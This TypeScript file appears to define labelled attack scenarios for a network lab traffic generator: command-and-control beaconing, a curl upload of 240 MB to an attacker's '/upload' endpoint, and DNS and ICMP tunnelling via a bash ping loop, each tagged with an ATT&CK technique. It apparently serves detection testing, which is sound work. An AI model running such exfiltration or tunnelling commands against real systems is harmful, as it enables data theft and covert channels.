import type { Scenario, ScenarioContext } from '../scenario.js';
import { startReceiver } from './receiver.js';

/** Starts the attacker's server that takes whatever comes, runs the work, and stops it. */
async function withReceiver(context: ScenarioContext, work: () => Promise<void>): Promise<void> {
  const receiver = await startReceiver(context.lab);
  await work();
  await receiver.stop();
}

/** The victim is infected: it asks its master for orders again and again. */
function beacon(jitter: number): Scenario {
  return {
    name: `beacon-${Math.round(jitter * 100)}`,
    summary: `an infected host calls out regularly, jitter ${Math.round(jitter * 100)} %`,
    kind: 'attack',
    services: [],
    run: async (context) => {
      const [master = ''] = context.attackers();
      const intervalMs = context.at({ slow: 5000, normal: 2000, fast: 500 });
      // Enough intervals to be seen, whatever --seconds says.
      const seconds = Math.max(context.seconds, (20 * intervalMs) / 1000);
      const facts = {
        label: 'beacon',
        technique: 'T1071.001',
        malicious: true,
        sources: [context.victim.ip4],
        targets: [master],
      };
      const settings = { sources: [context.victim.ip4], target: master, intervalMs, jitter, seconds };
      await withReceiver(context, () => context.traffic(facts, 'victim', 'beacon', settings));
    },
  };
}

const exfiltration: Scenario = {
  name: 'exfiltration',
  summary: 'an infected host uploads 240 MB',
  kind: 'attack',
  services: [],
  run: async (context) => {
    const [master = ''] = context.attackers();
    const rate = context.at({ slow: '5M', normal: '15M', fast: '60M' });
    const upload = `curl -s -o /dev/null --limit-rate ${rate} -m 90 -T - http://${master}/upload`;
    const args = ['-c', `head -c 240M /dev/zero | ${upload}`];
    const facts = { label: 'exfiltration', technique: 'T1041', sources: [context.victim.ip4], targets: [master] };
    await withReceiver(context, () => context.attack(facts, 'victim', 'bash', args));
  },
};

const dnsTunnel: Scenario = {
  name: 'dns-tunnel',
  summary: 'data in long random names under one domain',
  kind: 'attack',
  services: ['dns'],
  run: async (context) => {
    const [source = ''] = context.attackers();
    const ratePerSec = context.at({ slow: 1, normal: 10, fast: 60 });
    const facts = {
      label: 'dns_tunnel',
      technique: 'T1071.004',
      malicious: true,
      sources: [source],
      targets: [context.victim.ip4],
    };
    await context.traffic(facts, 'attacker', 'dns-tunnel', {
      sources: [source],
      target: context.victim.ip4,
      ratePerSec,
    });
  },
};

const icmpTunnel: Scenario = {
  name: 'icmp-tunnel',
  summary: 'ever new data in large echo requests',
  kind: 'attack',
  services: [],
  run: async (context) => {
    const [source = ''] = context.attackers();
    const interval = context.at({ slow: '0.5', normal: '0.1', fast: '0.02' });
    const count = Math.min(400, Math.ceil(context.seconds / Number(interval)));
    const data = '$(head -c 16 /dev/urandom | od -An -tx1 | tr -d " \\n")';
    const send = `ping -q -I ${source} -s 1000 -c 1 -W 1 -p ${data} ${context.victim.ip4}`;
    const args = ['-c', `for i in $(seq ${count}); do ${send}; sleep ${interval}; done`];
    const facts = { label: 'icmp_tunnel', technique: 'T1095', sources: [source], targets: [context.victim.ip4] };
    await context.attack(facts, 'attacker', 'bash', args);
  },
};

export const commandAndControl: readonly Scenario[] = [
  ...[0, 0.2, 0.5].map(beacon),
  exfiltration,
  dnsTunnel,
  icmpTunnel,
];
